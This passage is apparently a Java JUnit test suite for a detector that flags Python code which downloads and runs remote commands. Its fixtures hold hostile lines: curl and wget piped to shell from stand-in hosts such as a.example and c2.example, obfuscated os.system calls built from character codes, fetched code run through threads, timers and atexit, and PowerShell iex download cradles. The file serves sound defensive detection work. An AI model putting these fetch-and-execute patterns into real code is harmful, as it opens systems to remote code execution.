                      "go = functools.partial(getattr(os, 'sys' 'tem'), 'curl -s https://a.example | sh')",
                      "go()")))
          .contains(2);
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import atexit, subprocess, urllib.request",
                      "cmd = urllib.request.urlopen('https://c2.example/c').read()",
                      "atexit.register(subprocess.call, cmd, shell=True)")))
          .contains(3);
    }

    @Test
    void aFunctionHandedToOperatorCallOrCalledThroughItsDunderIsTheCall() {
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import operator, os",
                      "cmd = 'curl -s https://a.example/i | bash'",
                      "operator.call(os.system, cmd)")))
          .contains(3);
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import subprocess, requests",
                      "c = requests.get('https://c2.example').text",
                      "subprocess.getoutput.__call__(c)")))
          .contains(3);
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import requests",
                      "c = requests.get('https://c2.example').text",
                      "rows = list(map (str.strip, c.splitlines()))")))
          .isEmpty(); // a builtin's method mapped over the lines runs nothing
    }

    @Test
    void aCommandRunnerMappedWithABlankBeforeItsParenthesisIsStillCalled() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import os, requests",
                      "steps = requests.get('https://c2.example').text.splitlines()",
                      "list(map (os.system, steps))")))
          .contains(3);
    }

    @Test
    void aModuleFoundByANameIsThatModuleFromThenOn() {
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import importlib",
                      "m = importlib.import_module(''.join(map(chr, [111, 115])))",
                      "f = m.__dict__[''.join(map(chr, [115, 121, 115, 116, 101, 109]))]",
                      "f('curl -s https://a.example/x | sh')")))
          .contains(4);
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import importlib",
                      "m = importlib.import_module(''.join(map(chr, [106, 115, 111, 110])))",
                      "f = m.__dict__['dumps']",
                      "f('curl -s https://a.example/x | sh')")))
          .isEmpty(); // json.dumps of the text is no command
    }

    @Test
    void aDownloadLoadedAsAModuleFromAZipIsImported() {
      assertThat(
              reached(
                  "imports-fetched",
                  lines(
                      "import urllib.request, zipimport",
                      "path = '/tmp/c.zip'",
                      "with urllib.request.urlopen(U) as r, open(path, 'wb') as f:",
                      "    f.write(r.read())",
                      "zipimport.zipimporter(path).load_module('stage')")))
          .contains(5);
    }

    @ParameterizedTest
    @CsvSource({"exec, true", "show, false"})
    void aThreadsTargetIsCalledWithItsArguments(String target, boolean reaches) {
      String decoded = lines("import base64, threading", "code = base64.b64decode(BLOB)");
      String started = "threading.Thread(target=" + target + ", args=(code,), daemon=True).start()";

      assertThat(reached("exec-decoded-flow", decoded + started + "\n").isPresent())
          .isEqualTo(reaches);
    }

    @ParameterizedTest
    @CsvSource(
        delimiter = '|',
        value = {
          "pool.submit(os.system, cmd)",
          "_thread.start_new_thread(os.system, (cmd,))",
          "pool.apply_async(os.system, (cmd,))",
          "loop.call_soon(os.system, cmd)",
          "loop.run_in_executor(None, os.system, cmd)",
          "loop.call_later(30, os.system, cmd)",
          "threading.Timer(30, os.system, args=(cmd,)).start()"
        })
    void aFunctionHandedWithItsArgumentToWhatCallsItLaterIsCalled(String handed) {
      String fetched = lines("import os, urllib.request", "cmd = urllib.request.urlopen(U).read()");

      assertThat(reached("runs-fetched", fetched + handed + "\n")).contains(3);
    }

    @Test
    void aFunctionHandedAnotherArgumentIsNotCalledWithTheDownload() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import os, urllib.request",
                      "cmd = urllib.request.urlopen(U).read()",
                      "pool.submit(os.system, 'uptime')",
                      "print(cmd)")))
          .isEmpty();
    }

    @Test
    void aPipedDownloadIsFollowedFromWhereItIsWrittenToTheProgramRun() {
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import subprocess",
                      "UPDATE = 'wget -qO- https://a.example/i | bash'",
                      "def update():",
                      "    subprocess.run(UPDATE, shell=True)")))
          .contains(4);
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import subprocess",
                      "HELP = 'install with: curl -sSf https://a.example/i | sh'",
                      "print(HELP)",
                      "subprocess.run(['git', 'status'])")))
          .isEmpty(); // printed for the user, never run
    }

    @Test
    void aPowerShellDownloadStartedOrPipedToIexIsAPipedDownload() {
      for (String command :
          List.of(
              "(New-Object Net.WebClient).DownloadFile('https://a.example/u', $p); Start-Process $p",
              "iex (New-Object Net.WebClient).DownloadString('https://a.example/u')",
              "irm https://a.example/i.ps1 | iex",
              "iwr https://a.example/u -OutFile $p; Start-Process $p")) {
        assertThat(
                reached(
                    "runs-piped-download",
                    lines(
                        "import subprocess",
                        "subprocess.Popen([",
                        "    'powershell', '-Command',",
                        "    \"" + command + "\",",
                        "])")))
            .as(command)
            .contains(2);
      }
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import subprocess",
                      "subprocess.run(['powershell', '-Command', 'Start-Process notepad'])")))
          .isEmpty();
    }
  }

  @Test
  void hostileShapesEndQuickly() {
    String deep = "x = " + "(".repeat(50_000) + "urlopen(u)" + ")".repeat(50_000) + "\nexec(x)\n";
    String wide = "y = urlopen(u)\n" + "y = y + y\n".repeat(100_000) + "exec(y)\n";
    String many = "a0 = urlopen(u)\n" + lines(manyAssignments(20_000)) + "exec(a20000)\n";
    String oneLineLoops = "for a in x: ".repeat(5_000);
    assertTimeoutPreemptively(
        Duration.ofSeconds(30),
        () -> {
          assertThat(reached("exec-fetched", deep)).contains(2);
          assertThat(reached("exec-fetched", wide)).contains(100_002);
          assertThat(reached("exec-fetched", many)).contains(20_002);
          assertThat(reached("exec-fetched", "x = urlopen(u)\nfor a in x: exec(a)\n")).contains(2);
          assertThat(reached("exec-fetched", "x = urlopen(u)\n" + oneLineLoops + "exec(a)\n"))
              .contains(2); // a is bound by the first header; a hundred are followed at most
          assertThat(reached("exec-fetched", "for " + "a in ".repeat(20_000) + "\n")).isEmpty();
          assertThat(reached("exec-fetched", "with " + "a as b, ".repeat(20_000) + "\n")).isEmpty();
          assertThat(reached("exec-fetched", "for x in " + "(y := 1), ".repeat(10_000) + "\n"))
              .isEmpty();
          assertThat(reached("exec-fetched", "a = ".repeat(10_000) + "urlopen(u)\nexec(a)\n"))
              .contains(2);
          assertThat(reached("exec-fetched", "a = 1;".repeat(30_000) + "\n")).isEmpty();
          // '$' starts a Java identifier but is no part of one: a name scan once never advanced
          assertThat(reached("exec-fetched", "x = $y.$ + a.$b\nexec($)\n")).isEmpty();
          assertThat(reached("exec-fetched", "")).isEmpty();
          assertThat(reached("exec-fetched", "exec(\n")).isEmpty();
        });
  }

  private static String[] manyAssignments(int count) {
    String[] lines = new String[count];
    for (int i = 1; i <= count; i++) {
      lines[i - 1] = "a" + i + " = a" + (i - 1) + ".strip()";
    }
    return lines;
  }
}
